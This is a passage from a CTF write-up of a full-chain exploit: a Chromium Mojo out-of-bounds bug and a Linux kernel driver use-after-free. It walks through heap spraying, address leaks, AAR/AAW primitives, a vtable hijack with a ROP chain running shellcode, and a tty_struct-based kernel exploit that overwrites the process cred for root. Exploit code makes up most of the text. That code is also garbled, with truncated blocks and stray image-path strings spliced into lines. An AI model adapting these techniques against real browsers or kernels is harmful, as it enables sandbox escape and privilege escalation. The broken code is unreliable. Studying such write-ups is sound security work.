                                    ResizeVectorCallback callback) {The vulnerability lies in Read and Write methods in which we can read/write the vector out-of-bounds.

void CtfInterfaceImpl::Read(uint32_t offset, ReadCallback callback) {

void CtfInterfaceImpl::Write(double value,
                             uint32_t offset,
                             WriteCallback callback) {
  numbers_[offset] = value;

AddressLeak

Not only browserexploit but most real-world exploits follow the same path.

  1. Leak an address
  2. Gain AAR/AAW
  3. Control RIP

Leaking an address is easy because we have OOB read on the heap.

The problem is that we can't predict what objects come after the vulnerable vector because of the heavy multi-process system. My idea is to spray the CtfInterface and allocate a vector of the same size as CtfInterface. Then it's likely to have a CtfInterface instance near the vector.

I wrote a script to search for a specific pattern in the memory to leak the desired pointer.

    /* Find evil */
    let addr_evil = null;
    let addr_elm = null;
    let chrome_base = null;
    for (let i = 1; i < 0x80; i++) {
        let a0 = (await evil.read((0x60 / 8) * i + 0)).value.f2i();
        let a1 = (await evil.read((0x60 / 8) * i + 1)).value.f2i();
        let a2 = (await evil.read((0x60 / 8) * i + 2)).value.f2i();if (a0 != 0n && a1 == 0n && a2 == 0n) {
            let a6 = (await evil.read((0x60 / 8) * i + 6)).value.f2i();
            let a7 = (await evil.read((0x60 / 8) * i + 7)).value.f2i();
            addr_evil = a0;
            addr_elm = a6 - 0x18n - BigInt(0x60 * i);
            chrome_base = a7 - 0xbc77518n;
    if (addr_elm == null) {
        console.log("[-] Bad luck!");
        return location.reload();
    let offset = Number((addr_evil - addr_elm) / 8n);
    console.log("[+] offset = " + offset);
    if (offset < 0) {
        console.log("[-] Bad luck!");
        return location.reload();
    console.log("[+] addr_evil = " + addr_evil.hex());
    console.log("[+] addr_elm = " +addr_elm.hex());
    console.log("[+] chrome_base = " + chrome_base.hex());

The exploit above leaks the address of the instance, vector, and chrome program base. The code calculates the offset to the CtfInterface instance from the vector. It re-tries the exploit (by location.reload()) if the offset is negative because we have only positive OOB read/write so far.

AAR/AAW Primitives

As we found the address of a CtfInterface instance, we can overwrite the pointers in std::vector. This is powerful because we can get AAR/AAW primitives by modifying the vector's element pointer.

    async function aar64(addr) {
        await evil.write(addr.i2f(),
                         offset + (0x60 / 8) * victim_ofs + 1);
        await evil.write((addr + 0x10n).i2f(),
                         offset + (0x60 / 8) * victim_ofs + 2);
        await evil.write((addr + 0x10n).i2f(),
                         offset + (0x60 / 8) * victim_ofs + 3);
        return (await victim.read(0)).value.f2i();
    async function aaw64(addr, value) {
        await evil.write(addr.i2f(),
                         offset + (0x60 / 8) * victim_ofs + 1);
        await evil.write((addr + 0x10n).i2f(),
                         offset + (0x60 / 8) * victim_ofs + 2);
        await evil.write((addr + 0x10n).i2f(),offset + (0x60 / 8) * victim_ofs + 3);
        await victim.write(value.i2f(), 0);

Actually, AAR and AAW are not necessary to exploit this vulnerability. Anyway, it's better than nothing.

Vtable Hijack

So, how to control RIP?

I think the easiest way is to hijack the vtable of CtfInterface. Many instances in Chromium, including the Mojo interface, have their own function tables to handle some virtual methods. The vtable is written in the heap (the first qword of each object) and we can simply overwrite it.By changing the vtable to our fake vtable, we can control RIP when the modified object is used. (We can prepare the vtable on the heap because we have the heap address, or write to somewhere else because we also have AAW primitive.)

After controlling RIP, it's natural to use stack pivot to run our ROP chain. I used xchg rax, rsp; ret; gadget and called mprotect in the ROP chain to execute my shellcode.

    let rop_pop_rdi = chrome_base + 0x035d445dn;
    let rop_pop_rsi = chrome_base + 0x0348edaen;
    let rop_pop_rdx = chrome_base +0x03655332n;
    let rop_pop_rax = chrome_base + 0x03419404n;
    let rop_syscall = chrome_base + 0x0800dd77n;
    let rop_xchg_rax_rsp = chrome_base + 0x0590510en
    let addr_shellcode = addr_elm & 0xfffffffffffff000n;
    let rop = [
        rop_xchg_rax_rsp, // vtable target
    for (let i = 0; i < rop.length; i++) {
        await evil.write(rop[i].i2f(), i);
    for (let i = 0; i < shellcode.length; i++) {
        await aaw64(addr_shellcode + BigInt(i*8), shellcode[i].f2i());

    await aaw64(addr_evil, addr_elm);setTimeout(() => {
        for (let p of spray) {
            p.read(0); // Control RIP
    }, 3000);

Now we can run arbitrary shellcode. Just write a shellcode to execute /bin/bash :)

Privilege Escalation

The last part is kernel exploitation.

Driver Analysis

The kernel loads a vulnerable driver named ctfdevice. It allows us to allocate and free data of arbitrary size.

static ssize_t ctf_ioctl(struct file *f, unsigned int cmd, unsigned long arg)
  struct ctf_data *data = f->private_data;
  char *mem;

  switch(cmd) {
  case 1337:
    if (arg > 2000) {
      return -EINVAL;

    mem = kmalloc(arg, GFP_KERNEL);
    if (mem == NULL) {return -ENOMEM;

    data->mem = mem;
    data->size = arg;

  case 1338:

    return -ENOTTY;

  return 0;

You can see the pointer data->mem is not NULL-ed after kfree. However, read and write may use data->mem even after it's freed.

static ssize_t ctf_read(struct file *f, char __user *data, size_t size, loff_t *off)
  struct ctf_data *ctf_data = f->private_data;
  if (size > ctf_data->size) {
    return -EINVAL;

  if (copy_to_user(data, ctf_data->mem, size)) {
    return -EFAULT;

  return size;static ssize_t ctf_write(struct file *f, const char __user *data, size_t size, loff_t *off)struct ctf_data *ctf_data = f->private_data;
  if (size > ctf_data->size) {
    return -EINVAL;

  if (copy_from_user(ctf_data->mem, data, size)) {
    return -EFAULT;

  return size;

This is obviously Use-after-Free.

The basic idea of exploiting Use-after-Free is the same as user-land Use-after-Free. However, kernel-landUser-after-Free is much stronger. This is because any objects allocated by the kernel can affect the vulnerability.

Address Leak

A year ago I wrote a Japanese article that explains some structures useful for kernel exploit. As explained in the article, tty_struct is a good target. It can leak the kernel pointer, heap pointer and also is useful for controlling RIP. This object is allocated when we open /dev/ptmx.

I sprayed this object after freeing the data->mem. After the spray, it's likely that data->mem overlaps with one of the sprayed tty_struct objects.

  /* Leak addresses */
  for (int i = 0; i < 0x100; i++) {
    spray[i] = open("/dev/ptmx", O_NOCTTY | O_RDONLY);
  memset(buf, 0, sizeof(buf));dev_read((void*)buf, 0x2e0);
  kbase = buf[3] - (0xffffffff820745e0 - 0xffffffff81000000);
  kheap = buf[8] - 0x38;
  printf("[+] kbase = 0x%lx\n", kbase);
  printf("[+] kheap = 0x%lx\n", kheap);

AAR/AAW Primitives

The tty_struct has a function table (tty_operations) named ops. We overwrite it with a fake function table pointer and run some operations such as ioctl on the /dev/ptmx file descriptor in order to control RIP. The question is where to jump.

Basically, there're two ways to escalate the privilege.

  1. Call commit_creds(prepare_kernel_cred(NULL)) to get root privilege
  2. Overwrite EUID of cred structure of the own processYou can take either way but I chose the 2nd method.

The EUID, UID, GID, and so on are stored on the structure named cred. This object is allocated on the heap for each process and is referenced by a structure named task_struct. task_struct is also allocated on the heap for each process.

So, we need AAR and AAW primitives to leak the pointer of the cred object. But how can we get them?

A Korean security researcher, pr0cf5, found andpublished a technique to turn RIP control into AAR/AAW 2 years ago. You should check his article for more details. This is a very useful and powerful method, and I used it in this challenge too. Basically, we just have to find an ROP gadget like the following for AAR:

mov rax, [rdx]; ret;

And for AAW:

mov [rdx], ecx; ret;

It's very likely that the Linux kernel has such ROP gadgets.

void aaw32(unsigned long address, unsigned int value) {
  unsigned long *fake_ops = &buf[0x300 / 8];
  buf[3] = kheap + ((void*)fake_ops - (void*)buf);
  fake_ops[12] = rop_mov_prdx_ecx;
  dev_write((void*)buf, 0x3f0);
  for (int i = 0; i < 0x100; i++) {
    ioctl(spray[i], value, address);
int ofs_cache;unsigned int aar32(unsigned long address) {
  unsigned long *fake_ops = &buf[0x300 / 8];
  buf[3] = kheap +((void*)fake_ops - (void*)buf);
  fake_ops[12] = rop_mov_rax_prdx;
  dev_write((void*)buf, 0x3f0);
  for (int i = 0; i < 0x100; i++) {
    int result = ioctl(spray[i], 0, address);
    ofs_cache = i;
    if (result != -1)
      return result;

Finding the Credential

The next question is how to find task_struct of the current process.

There's a member named comm in task_struct.

 /* Objective and real subjective task credentials (COW): */
    const struct cred __rcu       *real_cred;

    /* Effective (overridable) subjective task credentials (COW): */
    const struct cred __rcu       *cred;

    * executable name, excluding path.
    * - normally initialized setup_new_exec()
    * - access it with [gs]et_task_comm()* - lock it with task_lock()
    char               comm[TASK_COMM_LEN];

This string defines the name of the current executable. We can change it by prctl function like this.

prctl(PR_SET_NAME, "HELLO");

If we run the code above, comm of the current struct is overwritten by the string "HELLO."

So, it can put a marker in the task_struct of the current process. We can look for the marker on the memory by using the AAR primitive. If we find the marker, we can also read the cred pointer and then overwrite the EUID with 0 (=root).

  /* Search for task_struct */
  prctl(PR_SET_NAME, "legoshi");
  if (aar32(kbase) != 0x51258d48) {
    puts("AAR is not working");
    return 1;
  unsigned long addr_cred = 0;
  for (unsigned long cur = kheap - 0x10008;
       cur > kheap - 0x10000000;
       cur -= 0x10) {
    if ((cur & 0xfffff) == 8) {
      printf("[*] Searching... (0x%lx)\n", cur);
    if (aar32(cur) == 0x6f67656c) {
      printf("[+] Found: 0x%lx\n", cur);
      addr_cred = ((unsigned long)aar32(cur-0x14) << 32) | aar32(cur-0x18);
  printf("[+] cred = 0x%lx\n", addr_cred);

  /* Overwrite EUID */
  for (int i = 1; i <= 8; i++) {
    aaw32(addr_cred + 4*i, 0);
  printf("[+] Done!");The full exploits (and exploits for each stage) are available on my repository.

To summarize, I have written the exploit for the renderer, browser, and kernel. The renderer bug was a heap buffer overflow. The browser bug was out-of-bounds array access on the heap. The kernel bug was use-after-free. I think each of the vulnerabilities is so simple that we can focus on the exploit part and is good for educational purposes.

Fortunately, I could get the first blood on thischallenge :) I'd like to thank the author for such a great challenge!

*1:A bug is a bug. Using the bug many times likely crashes the program.

